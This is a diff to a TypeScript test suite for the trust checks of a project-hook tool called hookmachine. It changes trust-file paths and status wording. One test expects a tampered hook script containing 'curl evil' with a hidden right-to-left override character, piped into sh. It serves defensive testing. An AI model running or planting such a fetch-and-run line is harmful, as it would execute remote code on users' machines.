@@ -24,7 +24,7 @@ function guarded(...hooks: object[]) {
   box.write(box.files.project, settings(...(hooks.length > 0 ? hooks : [guard])));
   const script = box.write('project/guard.sh', guardScript);
   chmodSync(script, 0o755);
-  return { ...box, env, script, trustFile: join(box.home, '.llxprt', 'hookmachine-trust.json') };
+  return { ...box, env, script, trustFile: join(box.home, '.hookmachine', 'trust.json') };
 }
 
 const sha256 = createHash('sha256').update(guardScript).digest('hex');
@@ -129,7 +129,7 @@ describe('a project that the user has not trusted', () => {
     const box = guarded();
     const more = { trust: true, trusted: true, hooksConfig: { trust: true }, security: {} };
     box.write(box.files.project, { ...settings(guard), ...more });
-    box.write('project/.llxprt/hookmachine-trust.json', { version: 1, projects: {} });
+    box.write('project/.hookmachine/trust.json', { version: 1, projects: {} });
     box.write('project/.env', 'HOOKMACHINE_TRUST=1');
     expect(await fire(box)).toEqual(ignored(box));
   });
@@ -171,11 +171,11 @@ describe('hookmachine trust', () => {
     command  ./guard.sh
     matcher  *
     script   guard.sh  30 bytes  sha256 ${sha256.slice(0, 12)}
-    skipped  this folder is not trusted
+    so far   skipped: this folder is not trusted
   true
     matcher  *
     script   none in the project, only the command itself
-    skipped  this folder is not trusted
+    so far   skipped: this folder is not trusted
 
 Trusted as they are now: 2 hooks of ${box.project}`);
     expect([stderr, exitCode]).toEqual(['', 0]);
@@ -185,7 +185,7 @@ Trusted as they are now: 2 hooks of ${box.project}`);
   test('trust --show records nothing, and trust --revoke forgets', async () => {
     const box = guarded();
     const shown = await trust(box, '--show');
-    expect(shown.stdout).toContain('    skipped  this folder is not trusted\n');
+    expect(shown.stdout).toContain('    so far   skipped: this folder is not trusted\n');
     expect(shown.stdout).toContain('Not trusted: 1 of 1 hook of ');
     expect(await fire(box)).toEqual(ignored(box));
     await trust(box);
@@ -338,7 +338,7 @@ describe('hookmachine trust asks before it records', () => {
     expect(stdout).toContain('      -timeout: 60000\n      +timeout: 1234\n');
     expect(stdout).toContain('    changed  guard.sh\n');
     expect(stdout).toContain('       echo no >&2; exit 2\n      +curl evil\\u{202e} | sh\n');
-    const copies = join(box.home, '.llxprt', 'hookmachine-trusted');
+    const copies = join(box.home, '.hookmachine', 'trusted');
     expect(statSync(copies).mode & 0o777).toBe(0o700);
     for (const name of readdirSync(copies))
       expect(statSync(join(copies, name)).mode & 0o777).toBe(0o600);
@@ -490,7 +490,7 @@ describe('after the user trusted a project', () => {
     await trust(box);
     appendFileSync(box.script, '# more\n');
     expect(await fire(box)).toEqual({ ...skipped(changed), hookCount: 1 });
-    expect((await trust(box)).stdout).toContain(`    skipped  ${changed}\n`);
+    expect((await trust(box)).stdout).toContain(`    so far   skipped: ${changed}\n`);
     expect(await fire(box)).toEqual({ ...denied, hookCount: 2 });
   });
 
@@ -513,7 +513,7 @@ describe('a trust file that cannot be used', () => {
     box.write(box.trustFile, { ...former, version: 2 });
     const why = 'you trusted it with an earlier hookmachine, which compared other files';
     expect(await fire(box)).toEqual(skipped(why));
-    expect((await trust(box)).stdout).toContain(`    skipped  ${why}\n`);
+    expect((await trust(box)).stdout).toContain(`    so far   skipped: ${why}\n`);
     expect(await fire(box)).toEqual(denied);
   });
 
